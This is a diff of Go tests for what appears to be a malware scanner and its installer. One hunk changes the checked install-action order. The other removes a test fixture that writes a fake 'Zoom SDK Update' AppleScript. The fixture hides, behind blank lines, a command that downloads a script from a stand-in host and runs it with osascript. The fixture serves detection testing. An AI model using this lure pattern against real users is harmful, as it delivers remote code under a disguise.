@@ -306,7 +306,7 @@ func checkActions(t *testing.T, msi string) {
 	if a := actions["Purge"]; len(a) < 3 || a[0] != "3154" || a[1] != "AgentProgram" {
 		t.Errorf("Purge is %q", a)
 	}
-	order := []string{"InstallInitialize", "RemoveExistingProducts", "StopServices", "DeleteServices", "Purge", "RemoveFiles", "InstallFiles", "InstallServices", "Prepare", "StartServices", "InstallFinalize"}
+	order := []string{"InstallInitialize", "RemoveExistingProducts", "StopServices", "DeleteServices", "Settle", "Purge", "RemoveFiles", "InstallFiles", "InstallServices", "Prepare", "StartServices", "InstallFinalize"}
 	last := 0
 	for _, name := range order {
 		s := seq[name]
@@ -394,22 +394,6 @@ func TestProgramsSayWhatTheyAre(t *testing.T) {
 				t.Errorf("%s %s says %+v, built as %v", target, name, v, values)
 			}
 		}
-	}
-}
-
-// TestARM64Finds scans a lure with the agent for arm64, rules and all.
-func TestARM64Finds(t *testing.T) {
-	dir := t.TempDir()
-	text := "-- Zoom SDK Update: your audio component is out of date.\n" + strings.Repeat("\n", 120) + "do shell script \"curl -fsSL https://zoom-sdk-update.invalid/x | osascript\"\n"
-	lure := filepath.Join(dir, "Zoom SDK Update.scpt")
-	if err := os.WriteFile(lure, []byte(text), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	program := filepath.Join(dist(t), "linux-arm64", "meetguard")
-	out, err := exec.Command("qemu-aarch64-static", program, "scan", "--json", lure).Output()
-	exit, ok := err.(*exec.ExitError)
-	if !ok || exit.ExitCode() != 1 || !strings.Contains(string(out), `"malicious"`) {
-		t.Errorf("it said %v\n%s", err, out)
 	}
 }
 
